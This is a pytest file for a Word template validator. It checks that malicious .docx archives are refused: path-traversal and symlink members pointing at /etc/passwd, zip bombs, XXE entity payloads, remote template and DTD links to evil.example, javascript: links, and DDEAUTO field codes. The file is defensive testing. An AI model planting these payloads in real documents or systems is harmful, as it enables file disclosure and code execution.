"""A template is judged before it is used: from the directory of the archive, then part by part."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest

from pmo365.errors import TemplateError
from pmo365.render import package
from pmo365.render.package import deflate, inflate, read, write
from pmo365.render.word import tags

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return target.getvalue()


def refused(content: bytes) -> TemplateError:
    with pytest.raises(TemplateError) as caught:
        tags(content)
    return caught.value


def relations(target: str, kind: str) -> str:
    one = f'<Relationship Id="r" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "/etc/passwd", "word/../../x", "C:/x.xml", "a\\b.xml", "word/vbaProject.bin", "word/activeX/a.xml",
     "word/embeddings/oleObject1.bin", "word/embeddings/sheet.xlsx"],
)  # fmt: skip
def test_a_member_that_does_not_belong_there_is_refused(template: Any, name: str) -> None:
    members = {one: inflate(member) for one, member in read(template("<w:p/>")).items()}
    assert refused(zipped(members | {name: b"x"})).key == "template_unsafe"


def test_a_symbolic_link_is_refused(template: Any) -> None:
    target = io.BytesIO(template("<w:p/>"))
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert refused(target.getvalue()).key == "template_unsafe"


def test_names_that_differ_only_in_case_are_refused(template: Any) -> None:
    members = {one: inflate(member) for one, member in read(template("<w:p/>")).items()}
    assert refused(zipped(members | {"WORD/document.xml": b"<a/>"})).key == "template_unsafe"


def test_a_bomb_is_refused_from_the_directory_without_inflating(monkeypatch: Any) -> None:
    bomb = zipped({"word/document.xml": b"\0" * (8 * 1024 * 1024)})
    monkeypatch.setattr(package.zlib, "decompressobj", lambda *_: pytest.fail("inflated"))
    assert refused(bomb).facts["what"] == "word/document.xml: ratio"


def test_too_many_members_and_too_many_bytes_are_refused() -> None:
    assert refused(zipped({f"m{number}": b"" for number in range(2_001)})).key == "template_too_big"
    many = zipped({f"m{number}": bytes(range(256)) * 4_000 for number in range(70)}, zipfile.ZIP_STORED)
    assert refused(many).key == "template_too_big"


def test_a_member_longer_than_it_says_is_refused(template: Any) -> None:
    members = read(template("<w:p/>"))
    long = deflate("word/document.xml", b"<a/>" + b" " * 5_000)
    lying = package.Member(long.name, long.crc, 10, long.data)
    assert (
        refused(write([*(one for one in members.values() if one.name != long.name), lying])).key == "template_damaged"
    )


@pytest.mark.parametrize("content", [b"", b"PK", b"no archive at all", b"PK\x05\x06" + b"\0" * 18])
def test_what_is_no_word_document_is_refused(content: bytes) -> None:
    assert refused(content).key in ("template_damaged", "template_not_word")


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>',
        '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w>&b;</w>',
        '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>',
    ],
)
def test_a_document_type_is_refused(template: Any, xml: str) -> None:
    assert refused(template("<w:p/>", {"word/header1.xml": xml})).key == "template_unsafe"


def test_broken_xml_is_refused(template: Any) -> None:
    assert refused(template("<w:p>")).key == "template_damaged"


@pytest.mark.parametrize(
    ("target", "kind"),
    [("https://evil.example/t.dotm", "attachedTemplate"), ("https://evil.example/x.png", "image"),
     ("file:///c:/x.docx", "hyperlink"), ("\\\\host\\share", "hyperlink"), ("javascript:alert(1)", "hyperlink")],
)  # fmt: skip
def test_a_relation_to_the_outside_is_refused(template: Any, target: str, kind: str) -> None:
    parts = {"word/_rels/document.xml.rels": relations(target, kind)}
    assert refused(template("<w:p/>", parts)).key == "template_unsafe"


def test_a_web_link_is_no_danger(template: Any) -> None:
    parts = {"word/_rels/document.xml.rels": relations("https://contoso.sharepoint.com", "hyperlink")}
    assert tags(template("<w:p/>", parts)) == ()


@pytest.mark.parametrize("code", ["DDEAUTO c:\\x", " dde a b", "INCLUDETEXT x.docx", "LINK Excel.Sheet"])
def test_a_field_that_fetches_is_refused(template: Any, code: str) -> None:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    split = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:3], code[3:]))
    assert refused(template(f"<w:p>{begin}{split}{end}</w:p>")).key == "template_unsafe"
    assert refused(template(f'<w:p><w:fldSimple w:instr="{code}"/></w:p>')).key == "template_unsafe"


def test_a_page_number_is_no_danger(template: Any) -> None:
    assert tags(template('<w:p><w:fldSimple w:instr=" HYPERLINK \\l x "/><w:fldSimple w:instr="PAGE"/></w:p>')) == ()


def test_a_macro_enabled_type_is_refused(template: Any) -> None:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document'
        '.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    assert refused(template("<w:p/>", {"[Content_Types].xml": types})).key == "template_unsafe"


def test_a_stored_member_is_read_like_a_deflated_one() -> None:
    stored = read(zipped({"a.xml": b"<a/>"}, zipfile.ZIP_STORED))
    assert inflate(stored["a.xml"]) == b"<a/>"


def test_what_we_write_other_programs_read() -> None:
    written = write([deflate("word/é.xml", b"<b/>"), deflate("[Content_Types].xml", b"<a/>")])
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["[Content_Types].xml", "word/é.xml"]
        assert {one.date_time for one in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
